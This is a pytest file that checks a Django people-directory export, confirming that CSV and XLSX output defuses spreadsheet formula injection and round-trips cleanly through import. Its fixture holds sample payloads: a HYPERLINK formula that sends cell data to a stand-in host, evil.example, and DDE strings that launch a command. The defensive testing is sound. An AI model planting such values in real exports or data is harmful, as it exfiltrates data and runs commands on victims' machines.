"""``export-people``: files a spreadsheet opens without running anything, that import back unchanged."""

from __future__ import annotations

import csv
import zipfile

import pytest
from django.core.management import call_command
from openpyxl import load_workbook

from tests.factories import PersonFactory
from twofold.people.models import Person

# Text a spreadsheet would run, text that merely looks like it, and text that must stay as it is.
TRICKY_NAMES = {
    "E1": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "E2": "+1+cmd|' /C calc'!A0",
    "E3": "-Ana",
    "E4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "E5": "'=already quoted",
    "E6": "'t Hooft",
    "E7": "-5",
    "E8": "Ana Lopez",
}
NEUTRALISED = {
    "E1": '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "E2": "'+1+cmd|' /C calc'!A0",
    "E3": "'-Ana",
    "E4": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "E5": "''=already quoted",
    "E6": "'t Hooft",
    "E7": "'-5",
    "E8": "Ana Lopez",
}


@pytest.fixture
def tricky(db) -> None:  # type: ignore[no-untyped-def]
    for employee_id, name in TRICKY_NAMES.items():
        PersonFactory(employee_id=employee_id, name=name, title="=1+1", department="@Ops", location="+Leeds")


def test_hole_6_csv_export_neutralises_cells_a_spreadsheet_would_run(tmp_path, tricky) -> None:
    path = tmp_path / "people.csv"
    call_command("export_people", str(path))
    with path.open(newline="", encoding="utf-8") as handle:
        rows = {row["employee_id"]: row for row in csv.DictReader(handle)}
    assert {employee_id: row["name"] for employee_id, row in rows.items()} == NEUTRALISED
    assert {(row["title"], row["department"], row["location"]) for row in rows.values()} == {
        ("'=1+1", "'@Ops", "'+Leeds")
    }
    # Numbers stay numbers: a level is never quoted.
    assert {row["level"] for row in rows.values()} == {"3"}


def test_hole_6_export_neutralises_a_leading_tab_or_carriage_return(tmp_path, db) -> None:
    # The import refuses such text, but the admin can still store it.
    PersonFactory(employee_id="T1", name="\tTabbed", title="\rReturned")
    path = tmp_path / "people.csv"
    call_command("export_people", str(path))
    with path.open(newline="", encoding="utf-8") as handle:
        (row,) = csv.DictReader(handle)
    assert (row["name"], row["title"]) == ("'\tTabbed", "'\rReturned")


def test_hole_6_xlsx_export_holds_no_formula_and_neutralises_text(tmp_path, tricky) -> None:
    path = tmp_path / "people.xlsx"
    call_command("export_people", str(path))
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(path)  # formulas as written, not their cached values
    sheet = workbook.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    names = {row[0].value: row[header.index("name")].value for row in sheet.iter_rows(min_row=2)}
    assert names == NEUTRALISED
    levels = {row[header.index("level")].value for row in sheet.iter_rows(min_row=2)}
    assert levels == {3}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".json"])
def test_hole_6_export_import_round_trip_keeps_formula_like_text_exactly(tmp_path, tricky, capsys, suffix) -> None:
    path = tmp_path / f"people{suffix}"
    call_command("export_people", str(path))
    capsys.readouterr()
    call_command("import_people", str(path))
    assert "No changes: the directory already matches the file." in capsys.readouterr().out
    assert dict(Person.objects.values_list("employee_id", "name")) == TRICKY_NAMES
    assert set(Person.objects.values_list("title", "department", "location")) == {("=1+1", "@Ops", "+Leeds")}
